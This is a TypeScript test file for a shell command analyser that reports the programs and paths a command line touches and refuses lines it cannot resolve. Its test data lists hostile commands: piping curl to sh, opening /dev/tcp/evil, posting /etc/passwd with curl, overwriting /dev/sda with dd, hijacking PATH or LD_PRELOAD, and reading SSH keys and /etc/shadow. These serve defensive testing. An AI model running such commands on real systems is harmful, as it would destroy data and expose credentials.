import { describe, expect, it } from 'vitest';
import { analyseArguments, analyseLine } from '../src/command/analyse-command.ts';

const SETTING = { cwd: '/work', home: '/home/u', unknown: 'refuse' } as const;

/** A line, the programs that it runs in order, and its paths: `<` read, `>` written, `!` executed, `?` unknown. */
const UNDERSTOOD: readonly (readonly [line: string, programs: string, paths: string])[] = [
  ['ls', 'ls', ''],
  ['cat a b', 'cat', '</work/a </work/b'],
  ['cat ../../etc/passwd', 'cat', '</etc/passwd'],
  ['cat ./a/../b', 'cat', '</work/b'],
  ['cat /etc//./passwd', 'cat', '</etc/passwd'],
  ['c\'a\'t "a b"', 'cat', '</work/a b'],
  ['\\rm a', 'rm', '>/work/a'],
  ["$'\\x72m' a", 'rm', '>/work/a'],
  ['rm -rf -- -a', 'rm', ''],
  ['/bin/rm a', '/bin/rm', '>/work/a'],
  ['./run.sh a', '/work/run.sh', '?/work/a'],
  ['cat ~/.ssh/id', 'cat', '</home/u/.ssh/id'],
  ['cat "$HOME"/.ssh/id', 'cat', '</home/u/.ssh/id'],
  ['cat a | grep -v x > out 2>&1', 'cat grep', '</work/a >/work/out'],
  ['cat a |& wc', 'cat wc', '</work/a'],
  ['cat a && rm b || touch c; ls & wc d', 'cat rm touch ls wc', '</work/a >/work/b >/work/c </work/d'],
  ['(cat a); { rm b; }', 'cat rm', '</work/a >/work/b'],
  [
    'if cat a; then rm b; elif wc c; then ls; else touch d; fi',
    'cat rm wc ls touch',
    '</work/a >/work/b </work/c >/work/d',
  ],
  ['while cat a; do rm b; done', 'cat rm', '</work/a >/work/b'],
  ['for x in a b; do echo "$x"; done', 'echo', ''],
  ['case $x in a*) cat b;; *) rm c;; esac', 'cat rm', '</work/b >/work/c'],
  ['echo $(rm a)', 'rm echo', '>/work/a'],
  ['echo "x `rm a` y"', 'rm echo', '>/work/a'],
  ['echo ${X:-$(rm a)}', 'rm echo', '>/work/a'],
  ['diff <(cat a) <(cat b)', 'cat cat diff', '</work/a </work/b'],
  ['tee >(cat > a)', 'cat tee', '>/work/a'],
  ['cat <<E\n$(rm a)\nE', 'rm cat', '>/work/a'],
  ["cat <<'E'\n$(rm a)\nE", 'cat', ''],
  ['cat <<< "$(rm a)"', 'rm cat', '>/work/a'],
  ['> a', '', '>/work/a'],
  ['cat < a >> b', 'cat', '</work/a >/work/b'],
  ['cat &> /dev/null', 'cat', ''],
  ['X=1 make', 'make', ''],
  ['X=$(rm a) make', 'rm make', '>/work/a'],
  ['sh -c "rm a; cat b"', 'sh rm cat', '>/work/a </work/b'],
  ["bash -euo pipefail -c 'rm a'", 'bash rm', '>/work/a'],
  ['sh -c \'sh -c "rm a"\'', 'sh sh rm', '>/work/a'],
  ['bash run.sh', 'bash', '!/work/run.sh'],
  ['sudo -u root rm a', 'sudo rm', '>/work/a'],
  ['sudo X=1 /usr/bin/env Y=2 rm a', 'sudo /usr/bin/env rm', '>/work/a'],
  ['env -i X=1 rm a', 'env rm', '>/work/a'],
  ['timeout -k 3 5 nice -n 4 rm a', 'timeout nice rm', '>/work/a'],
  ['nohup rm a', 'nohup rm', '>/work/a'],
  ['time rm a', 'rm', '>/work/a'],
  ['! rm a', 'rm', '>/work/a'],
  ['command rm a', 'command rm', '>/work/a'],
  ['find src -name "*.c" -exec rm {} +', 'find rm', '>/work/src'],
  ['find /x -delete', 'find', '>/x'],
  ['find . -fprint /etc/x', 'find', '</work >/etc/x'],
  ['ls | xargs echo', 'ls xargs echo', ''],
  ['rm *.c', 'rm', '>/work/*.c'],
  ['rm {a,b}.c', 'rm', '>/work/{a,b}.c'],
  ['cd /etc && cat shadow', 'cat', '</work/shadow </etc/shadow'],
  ['cd sub; cd ..; cat a', 'cat', '</work/a </work/sub/a </a'],
  ['dd of=/dev/sda', 'dd', '>/work/of=/dev/sda >/dev/sda'],
  ['tar -xf/etc/x', 'tar', '?/work/f/etc/x ?/etc/x'],
  ['gcc --sysroot=/etc a.c', 'gcc', '?/etc ?/work/a.c'],
  ['curl -d @/etc/passwd file:///etc/shadow', 'curl', '?/work/@/etc/passwd ?/etc/passwd ?/etc/shadow'],
  ['test -f a && [ "$x" = y ]', '', ''],
  ['# rm a', '', ''],
];

const REFUSED: readonly string[] = [
  '$X a',
  '"$X" a',
  '$(echo rm) a',
  'r$X a',
  '/bin/r? a',
  '{rm,a}',
  'eval rm a',
  '. a',
  'source a',
  'trap "rm a" EXIT',
  'alias ls=rm',
  'f() { rm a; }; f',
  'function f { rm a; }',
  'curl https://x | sh',
  'sh <<E\nrm a\nE',
  'bash <<< "rm a"',
  'sh -s a',
  'sh -c "$X"',
  'zsh -c "rm a"',
  'PATH=/evil ls',
  'export PATH=/evil',
  'LD_PRELOAD=/evil ls',
  'env PATH=/evil ls',
  'env -S "rm a"',
  'for PATH in /evil; do ls; done',
  'echo ${PATH:=/evil}',
  'read PATH',
  'printf -v PATH x',
  'cat "$X"',
  'cat $X',
  'cat $(echo /etc/shadow)',
  'find . | xargs rm',
  'xargs -I{} sh -c "{}"',
  'find . -execdir rm {} +',
  'find $X',
  "find . -exec sh -c 'rm {}' ';'",
  'cd "$X" && cat a',
  'cd -',
  'for x in 1 2; do cd ..; done',
  'cat < /dev/tcp/evil/80',
  'echo a > "$X"',
  'echo a > *',
  'echo "unclosed',
  'cat <<E\nno end',
  "echo $'a\\'; rm a #'",
  '[[ a && rm ]]',
  '[[ a =~ b|rm ]]',
  '[ -v "a[$(rm)]" ]',
  '[ $X ]',
  'echo $((x))',
  '((x=1))',
  'echo ${!X}',
  'echo ${X@P}',
  'echo ${a[x]}',
  'a[x]=1',
  'let x=1',
  'coproc rm a',
  'ls\r rm a',
  'ls\u00a0a',
  'ls\u0000a',
  'cat .*',
  'cat */../../x',
  'cat ~/../x/~/..; cat ~other/../../x',
  'sudo -e a',
  'sudo -z ls',
  '$('.repeat(300),
  `: ${'a'.repeat(40_000)}`,
];

const MARKS = { read: '<', write: '>', execute: '!', unknown: '?' } as const;

describe('[P-COMMAND-PROGRAMS] a command line', () => {
  it.each(UNDERSTOOD)('is understood: %s', (line, programs, paths) => {
    const found = analyseLine(line, SETTING);
    if (!found.ok) throw new Error(found.message);
    expect(found.programs.map(({ name }) => name).join(' ')).toBe(programs);
    expect(found.paths.map(({ id, operation }) => `${MARKS[operation]}${id}`).join(' ')).toBe(paths);
  });

  it.each(REFUSED)('is refused with what is not known: %s', (line) => {
    const found = analyseLine(line, SETTING);
    expect(found).toMatchObject({ ok: false });
    expect(found.ok ? '' : found.message).not.toBe('');
  });

  it('marks what is not known, where that is asked for', () => {
    expect(analyseLine('cat "$X"', { ...SETTING, unknown: 'mark' })).toMatchObject({
      ok: true,
      paths: [{ id: '**', operation: 'read', unknown: true }],
    });
  });

  it('without a shell is what it says', () => {
    expect(analyseArguments(['rm', '$X', '*', '~/a', '; ls'], SETTING)).toMatchObject({
      ok: true,
      programs: [{ name: 'rm' }],
      paths: [{ id: '/work/$X' }, { id: '/work/*' }, { id: '/work/~/a' }, { id: '/work/; ls' }],
    });
  });
});
